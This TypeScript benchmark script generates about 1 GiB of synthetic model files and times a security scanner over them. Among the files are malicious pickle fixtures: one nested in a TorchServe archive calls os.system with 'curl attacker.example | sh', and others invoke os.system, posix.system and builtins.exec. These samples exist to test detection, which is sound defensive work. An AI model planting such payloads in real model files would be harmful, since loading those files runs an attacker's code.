/**
 * `npm run bench:artifacts`: scans a generated directory of about 1 GiB of model files (mostly large safetensors,
 * a torch checkpoint, a TorchServe archive holding a compressed one, a legacy raw pickle with a large tensor
 * inside, NumPy arrays, a few malicious pickles) with the whole rulebook, in a child process, and reports the
 * scan's time and peak RSS in docs/BENCHMARKS.md. The files are written under /tmp at bench time and removed after.
 * Peak RSS must stay under 400 MB: every file is streamed, none is read whole.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, openSync, rmSync, writeSync, closeSync, statSync, readdirSync } from "node:fs";
import { randomBytes } from "node:crypto";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { crc32 } from "node:zlib";
import { loadRulebook } from "../lib/engine/rulebook.ts";
import { scanDirectory } from "../lib/engine/scan.ts";
import { callPickle, npy, PickleWriter, torchStateDict, zipArchive } from "../test/support/pickle-writer.ts";
import { machine, writeSection } from "./report.ts";

const RULES = fileURLToPath(new URL("../rules", import.meta.url));
const MiB = 1024 ** 2;
const MAX_RSS = 400 * MiB;

/** Writes `parts` in order, each a buffer or a number of filler bytes (written 8 MiB at a time). */
function writeFile(path: string, parts: (Buffer | number)[]) {
  mkdirSync(dirname(path), { recursive: true });
  const fd = openSync(path, "w");
  const filler = Buffer.alloc(8 * MiB, 0x3c);
  try {
    for (const p of parts)
      if (typeof p === "number")
        for (let left = p; left > 0; left -= filler.length) writeSync(fd, filler, 0, Math.min(left, filler.length));
      else writeSync(fd, p);
  } finally {
    closeSync(fd);
  }
}

function safetensorsHeader(bytes: number): Buffer {
  const header = Buffer.from(
    JSON.stringify({ __metadata__: { format: "pt" }, weight: { dtype: "F32", shape: [bytes / 4], data_offsets: [0, bytes] } }),
  );
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([len, header]);
}

/**
 * A torch checkpoint (zip, stored entries) whose tensor storage is `bytes` of filler, written without holding it:
 * the archive is laid out here because the tests' zip writer takes entries in memory. The storage's CRC is left 0,
 * which no reader of this benchmark checks: the scanner never opens tensor storages (data/<n>).
 */
function torchCheckpoint(path: string, bytes: number, pickle: Buffer) {
  const header = (signature: number, name: string, size: number, crc: number, offset?: number) => {
    const n = Buffer.from(name);
    const central = offset !== undefined;
    const h = Buffer.alloc(central ? 46 : 30);
    h.writeUInt32LE(signature, 0);
    h.writeUInt16LE(20, 4);
    if (central) h.writeUInt16LE(20, 6);
    h.writeUInt32LE(crc, central ? 16 : 14);
    h.writeUInt32LE(size, central ? 20 : 18);
    h.writeUInt32LE(size, central ? 24 : 22);
    h.writeUInt16LE(n.length, central ? 28 : 26);
    if (central) h.writeUInt32LE(offset, 42);
    return Buffer.concat([h, n]);
  };
  const pkl = header(0x04034b50, "archive/data.pkl", pickle.length, crc32(pickle));
  const tensorAt = pkl.length + pickle.length;
  const tensor = header(0x04034b50, "archive/data/0", bytes, 0);
  const cd = Buffer.concat([
    header(0x02014b50, "archive/data.pkl", pickle.length, crc32(pickle), 0),
    header(0x02014b50, "archive/data/0", bytes, 0, tensorAt),
  ]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(2, 8);
  end.writeUInt16LE(2, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(tensorAt + tensor.length + bytes, 16);
  writeFile(path, [pkl, pickle, tensor, bytes, cd, end]);
}

function generate(root: string): { files: number; bytes: number; malicious: number } {
  for (let i = 0; i < 7; i++) writeFile(join(root, `llm/model-0000${i}-of-00007.safetensors`), [safetensorsHeader(128 * MiB), 128 * MiB]);
  writeFile(join(root, "vision/resnet.onnx"), [Buffer.from([0x08, 0x07, 0x12, 0x07]), 24 * MiB]);
  writeFile(join(root, "llm/tiny.gguf"), [Buffer.from("GGUF\x03\x00\x00\x00", "latin1"), 16 * MiB]);
  torchCheckpoint(join(root, "vision/checkpoint.pt"), 64 * MiB, torchStateDict());
  // a legacy raw pickle (torch < 1.6, pickle.dump of arrays): one 24 MiB bytes value inside the opcode stream
  const blob = new PickleWriter()
    .proto(4)
    .raw(0x8e, Buffer.from(Uint32Array.of(24 * MiB, 0).buffer))
    .bytes();
  writeFile(join(root, "legacy/embeddings.pkl"), [
    blob,
    24 * MiB,
    Buffer.from([0x30]),
    callPickle("collections", "OrderedDict", "x", 4).subarray(2),
  ]);
  writeFile(join(root, "data/features.npy"), [npy("<f4", "(4194304,)", Buffer.alloc(0)), 16 * MiB]);
  // a TorchServe archive whose compressed model.pt (8 MiB) must be inflated to a temporary file to be read; its
  // tensor is random, as trained weights are near enough (a tensor of zeros compresses a thousandfold, and an
  // archive that would inflate past the ratio limit is reported unscanned)
  const inner = zipArchive([
    { name: "archive/data.pkl", data: callPickle("os", "system", "curl attacker.example | sh") },
    { name: "archive/data/0", data: randomBytes(8 * MiB) },
  ]);
  writeFile(join(root, "serving/model-store/classifier.mar"), [
    zipArchive([
      { name: "MAR-INF/MANIFEST.json", data: Buffer.from("{}") },
      { name: "model.pt", data: inner, method: "deflate" },
    ]),
  ]);
  writeFile(join(root, "legacy/evil.pkl"), [callPickle("os", "system", "id")]);
  writeFile(join(root, "legacy/hidden.pkl"), [new PickleWriter().proto(4).memoisedGlobal("posix", "system").stop().bytes()]);
  writeFile(join(root, "legacy/second.pkl"), [torchStateDict(), callPickle("builtins", "exec", "x", 4)]);
  const all = readdirSync(root, { recursive: true, withFileTypes: true }).filter((e) => e.isFile());
  return { files: all.length, bytes: all.reduce((a, e) => a + statSync(join(e.parentPath, e.name)).size, 0), malicious: 4 };
}

/** The child: one scan with the whole rulebook, then its own peak RSS. */
async function child(root: string) {
  const rulebook = loadRulebook(RULES);
  const started = performance.now();
  const r = await scanDirectory(root, { checks: rulebook.checks });
  const ms = performance.now() - started;
  process.stdout.write(
    JSON.stringify({
      ms,
      maxRss: process.resourceUsage().maxRSS * 1024,
      findings: r.findings.map((f) => [f.path, f.ruleId]),
      errors: r.errors,
      artifacts: r.stats.artifacts,
      skipped: r.stats.skipped,
    }),
  );
}

async function main() {
  if (process.argv[2] === "--scan") return child(process.argv[3]!);
  const root = mkdtempSync(join(tmpdir(), "posture-bench-artifacts-"));
  try {
    const t0 = performance.now();
    const g = generate(root);
    console.log(
      `generated ${g.files} files, ${(g.bytes / 1024 ** 3).toFixed(2)} GiB in ${((performance.now() - t0) / 1000).toFixed(1)} s under ${root}`,
    );
    const runs = [];
    for (let i = 0; i < 3; i++) {
      const out = spawnSync(process.execPath, ["--import", "tsx", fileURLToPath(import.meta.url), "--scan", root], {
        encoding: "utf8",
        maxBuffer: 64 * MiB,
      });
      if (out.status !== 0) throw new Error(`scan failed: ${out.stderr}`);
      runs.push(
        JSON.parse(out.stdout) as {
          ms: number;
          maxRss: number;
          findings: [string, string][];
          errors: unknown[];
          artifacts: { files: number; bytesRead: number; formats: Record<string, number>; safe: number; pickles: number };
        },
      );
    }
    const last = runs.at(-1)!;
    const times = runs.map((r) => r.ms).sort((a, b) => a - b);
    const rss = Math.max(...runs.map((r) => r.maxRss));
    console.log(JSON.stringify({ times, rss, findings: last.findings, errors: last.errors, artifacts: last.artifacts }, null, 2));
    const commit = execFileSync("git", ["rev-parse", "--short", "HEAD"], { encoding: "utf8" }).trim();
    const ok =
      rss < MAX_RSS &&
      last.errors.length === 0 &&
      last.findings.filter(([, id]) => id.startsWith("ml-serving.artifact.")).length === g.malicious;
    writeSection(
      "artifacts",
      `## Model files (\`npm run bench:artifacts\`)

Measured ${new Date().toISOString().slice(0, 10)} at commit ${commit} on ${machine()}.

A generated directory of ${g.files} model files, ${(g.bytes / 1024 ** 3).toFixed(2)} GiB (seven 128 MiB safetensors shards, an ONNX
model, a GGUF file, a 64 MiB torch checkpoint, a TorchServe archive holding a compressed 8 MiB checkpoint, a
legacy raw pickle with a 24 MiB value inside its opcodes, a 16 MiB NumPy array, and ${g.malicious} malicious pickles),
scanned with the whole rulebook in a fresh process, 3 runs:

| | |
|---|---|
| scan time (median of 3) | ${(times[1]! / 1000).toFixed(2)} s |
| peak RSS (max of 3, whole process) | ${(rss / MiB).toFixed(0)} MB (limit ${MAX_RSS / MiB} MB) |
| model files read | ${last.artifacts.files} (${Object.entries(last.artifacts.formats)
        .map(([f, n]) => `${n} ${f}`)
        .join(", ")}) |
| bytes read from them | ${(last.artifacts.bytesRead / MiB).toFixed(1)} MiB of ${(g.bytes / MiB).toFixed(0)} MiB |
| findings | ${last.findings.length} (${[...new Set(last.findings.map(([p]) => p))].join(", ")}) |
| errors | ${last.errors.length} |

Safetensors, ONNX and GGUF are recognised from their first bytes and not read further; a torch checkpoint's
tensor storages are never opened; the legacy pickle is streamed through the opcode reader, its 24 MiB value
skipped a chunk at a time; the archive's nested checkpoint is inflated to a temporary file and read in place.
The files are generated under /tmp at bench time and removed afterwards.`,
    );
    if (!ok) {
      console.error(
        `FAILED: peak RSS ${(rss / MiB).toFixed(0)} MB (limit ${MAX_RSS / MiB}), ${last.errors.length} errors, findings ${JSON.stringify(last.findings)}`,
      );
      process.exitCode = 1;
    }
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
}

await main();
